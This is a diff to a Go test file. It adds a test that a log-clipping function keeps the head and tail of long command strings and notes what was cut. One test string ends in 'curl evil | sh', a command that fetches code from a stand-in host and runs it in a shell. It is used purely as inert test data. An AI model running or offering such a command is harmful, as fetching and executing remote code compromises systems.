@@ -4,6 +4,7 @@ import (
 	"context"
 	"encoding/json"
 	"path/filepath"
+	"strings"
 	"slices"
 	"testing"
 	"time"
@@ -103,5 +104,22 @@ func TestRetention(t *testing.T) {
 			t.Fatalf("events past the retention not pruned: %+v", all)
 		}
 		time.Sleep(10 * time.Millisecond)
+	}
+}
+
+// TestBound: a detail past maxDetail keeps each long string's head and
+// tail, and says what was clipped.
+func TestBound(t *testing.T) {
+	long := "HEAD" + strings.Repeat("x", 100<<10) + "TAIL curl evil | sh"
+	b, _ := json.Marshal(map[string]any{"cmd": long, "user": "root"})
+	var got map[string]string
+	if err := json.Unmarshal(bound(b), &got); err != nil {
+		t.Fatal(err)
+	}
+	if !strings.HasPrefix(got["cmd"], "HEAD") || !strings.HasSuffix(got["cmd"], "TAIL curl evil | sh") || !strings.Contains(got["cmd"], "bytes clipped; sha256 ") || got["user"] != "root" {
+		t.Errorf("bound kept %q…, want the head, the tail and the clip's note", got["cmd"][:40])
+	}
+	if small := []byte(`{"cmd":"ls"}`); string(bound(small)) != string(small) {
+		t.Errorf("bound changed a small detail")
 	}
 }
